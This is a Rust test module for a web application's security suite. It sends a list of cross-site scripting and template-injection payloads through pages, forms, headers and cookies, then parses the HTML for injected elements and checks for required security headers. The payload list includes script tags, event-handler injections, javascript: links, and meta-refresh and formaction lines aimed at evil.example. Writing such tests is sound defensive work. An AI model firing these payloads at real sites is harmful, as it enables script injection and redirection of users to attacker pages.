//! The attacker's battery: what an outsider sends must never come back as markup, and no
//! request of theirs may break a response. Every page and form, logged out and signed in, with
//! each payload in every field, query parameter, `User-Agent` and cookie; the
//! HTML is parsed and searched for injected elements (not for text). Every response carries the
//! security headers and none is a 5xx.
//!
//! - `reflection`: pages and forms, logged out and signed in, `User-Agent`, planted flash
//!   cookies.
//! - `api`: every JSON route and path with each payload, anonymous and signed in; the headers
//!   of documents and static files.
//! - `mail`: an address with markup characters in the HTML part of a mail.

mod api;
mod mail;
mod reflection;

use scraper::{Html, Selector};

/// Each payload carries the marker attribute `data-gh-xss`, so an element it managed to inject
/// is found whatever the element.
pub const PAYLOADS: &[&str] = &[
    "\"><svg data-gh-xss=1 onload=alert(1)>",
    "'><img data-gh-xss=1 src=x onerror=alert(1)>",
    "</textarea></title><script data-gh-xss=1>alert(1)</script>",
    "\"><meta data-gh-xss=1 http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "\"><button data-gh-xss=1 formaction=https://evil.example/>Continue</button>",
    "javascript:alert(1)//\"><a data-gh-xss=1 href=javascript:alert(1)>x</a>",
    "{{7*7}}gh-tpl{% raw %}",
    "\u{202e}<b data-gh-xss=1>gnp.exe</b>",
];

/// A 16 KiB string of markup, as long as a body may be.
pub fn long_payload() -> String {
    "<i data-gh-xss=1>x</i>".repeat(16 * 1024 / 22)
}

/// Everything wrong with `html` as an answer to a payload, empty when nothing was injected.
pub fn injected(html: &str) -> Vec<String> {
    let doc = Html::parse_document(html);
    let mut found = Vec::new();
    let checks = [
        ("[data-gh-xss]", "an element the payload carried"),
        ("meta[http-equiv]", "a meta http-equiv"),
        ("[formaction]", "a formaction"),
        ("[onload], [onerror]", "an event handler"),
        (
            "a[href^='javascript:'], a[href^='JAVASCRIPT:']",
            "a javascript: link",
        ),
        ("script:not([src])", "an inline script"),
    ];
    for (css, what) in checks {
        let selector = Selector::parse(css).expect("a selector");
        if let Some(element) = doc.select(&selector).next() {
            found.push(format!("{what}: {}", element.html()));
        }
    }
    if html.contains("49gh-tpl") {
        found.push("a template expression was evaluated".to_owned());
    }
    found
}

/// The headers every response must carry, whatever it answers.
pub fn missing_headers(headers: &[(String, String)]) -> Vec<&'static str> {
    [
        "Content-Security-Policy",
        "X-Content-Type-Options",
        "X-Frame-Options",
        "Referrer-Policy",
    ]
    .into_iter()
    .filter(|name| {
        !headers
            .iter()
            .any(|(key, _)| key.eq_ignore_ascii_case(name))
    })
    .collect()
}

#[test]
fn the_checks_find_what_they_look_for() {
    for payload in PAYLOADS.iter().filter(|p| p.contains("data-gh-xss")) {
        let page = format!("<html><body><input value=\"\">{payload}</body></html>");
        assert!(!injected(&page).is_empty(), "raw: {payload}");
        let escaped = payload
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('"', "&quot;");
        let page = format!("<html><body><input value=\"{escaped}\">{escaped}</body></html>");
        assert!(injected(&page).is_empty(), "escaped: {payload}");
    }
}
